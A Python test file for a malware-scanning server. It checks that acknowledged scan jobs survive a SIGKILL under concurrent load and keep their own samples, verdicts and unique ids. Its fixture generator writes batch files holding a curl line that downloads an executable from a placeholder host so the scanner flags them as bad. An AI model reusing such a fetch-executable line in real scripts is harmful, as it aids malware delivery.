"""A real `mailowl serve` killed with SIGKILL under load: no acknowledged job may be lost or reused.

8 clients post distinct samples to /v1/scan; after at least 1,500 acknowledged ids the server is killed,
restarted on the same database, and every acknowledged id must answer with its own sample (sha256) and
that sample's verdict, or `failed` if its analysis was interrupted. New ids are larger than any before.
"""

from __future__ import annotations

import hashlib
import http.client
import json
import threading
from pathlib import Path

from tests.server import Server

CLIENTS = 8
ACKNOWLEDGED = 1500
_BOUNDARY = "----crashtestboundary"


def sample(n: int) -> tuple[str, bytes, str]:
    """(filename, content, expected verdict) for the n-th upload; every content is distinct."""
    kind = n % 3
    if kind == 0:
        return f"run{n}.bat", f"@echo off\r\nrem {n}\r\ncurl http://x.invalid/{n}.exe\r\n".encode(), "bad"
    if kind == 1:
        return f"note{n}.txt", f"plain text note number {n}\n".encode(), "ignored"
    noise = b"".join(hashlib.sha256(f"{n}:{i}".encode()).digest() for i in range(10))
    return f"blob{n}.bin", noise, "unknown"


def _body(filename: str, content: bytes) -> bytes:
    ctype = "text/plain" if filename.endswith(".txt") else "application/octet-stream"
    head = (f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            f"Content-Type: {ctype}\r\n\r\n").encode()
    return head + content + f"\r\n--{_BOUNDARY}--\r\n".encode()


class Load:
    """Clients that post until the server dies, recording every id the server acknowledged."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.lock = threading.Lock()
        self.next = 0
        self.acked: dict[int, int] = {}  # job id -> sample number
        self.duplicates: list[int] = []
        self.enough = threading.Event()
        self.threads = [threading.Thread(target=self.client, daemon=True) for _ in range(CLIENTS)]

    def take(self) -> int:
        with self.lock:
            self.next += 1
            return self.next

    def client(self) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        headers = {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}
        try:
            while True:
                n = self.take()
                filename, content, _ = sample(n)
                conn.request("POST", "/v1/scan", body=_body(filename, content), headers=headers)
                response = conn.getresponse()
                raw = response.read()
                if response.status != 200:
                    continue  # 503 under load is allowed: that upload was never acknowledged
                job_id = int(json.loads(raw)["job_id"])
                with self.lock:
                    if job_id in self.acked:
                        self.duplicates.append(job_id)
                    self.acked[job_id] = n
                    if len(self.acked) >= ACKNOWLEDGED:
                        self.enough.set()
        except (OSError, http.client.HTTPException):
            return  # the server was killed
        finally:
            conn.close()


def _crash_and_check(tmp: Path, url: str) -> None:
    config = f'[store]\nurl = "{url}"\n'
    server = Server(tmp, config)
    load = Load(server.port)
    try:
        for thread in load.threads:
            thread.start()
        assert load.enough.wait(120), f"only {len(load.acked)} uploads acknowledged"
        server.proc.kill()
        server.proc.wait(30)
    finally:
        server.stop()
    for thread in load.threads:
        thread.join(60)
    assert not load.duplicates, f"ids acknowledged twice: {load.duplicates[:10]}"
    acked = dict(load.acked)
    assert len(acked) >= ACKNOWLEDGED

    server = Server(tmp / "again", config)
    try:
        wrong: list[str] = []
        interrupted = 0
        for job_id, n in sorted(acked.items()):
            filename, content, expected = sample(n)
            status, job, _ = server.request("GET", f"/v2/jobs/{job_id}?wait=30")
            if status != 200:
                wrong.append(f"job {job_id} ({filename}): {status} {job}")
                continue
            if job["sample"]["sha256"] != hashlib.sha256(content).hexdigest():
                wrong.append(f"job {job_id} is another sample: {job['sample']['filename']}, not {filename}")
                continue
            if job["result"] == "failed" and "interrupted" in (job["reason"] or ""):
                interrupted += 1
            elif job["result"] != expected:
                wrong.append(f"job {job_id} ({filename}): {job['result']} ({job['reason']}), expected {expected}")
            status, report, _ = server.request("GET", f"/v1/report/{job_id}")
            if status != 200 or report["result"] != job["result"]:
                wrong.append(f"v1 report {job_id}: {status} {report}, v2 said {job['result']}")
        assert not wrong, f"{len(wrong)} of {len(acked)} acknowledged jobs are wrong:\n" + "\n".join(wrong[:20])
        assert interrupted < len(acked) // 2, f"{interrupted} of {len(acked)} jobs interrupted"

        filename, content, expected = sample(0)
        status, payload, _ = server.request("POST", "/v1/scan", _body(filename, content),
                                            {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"})
        assert status == 200
        assert payload["job_id"] > max(acked), f"new id {payload['job_id']} after {max(acked)} was handed out"
        assert server.verdict(payload["job_id"])["result"] == expected
    finally:
        server.stop()


def test_sigkill_under_load_loses_and_reuses_nothing(store_url: str, tmp_path: Path) -> None:
    _crash_and_check(tmp_path, store_url)
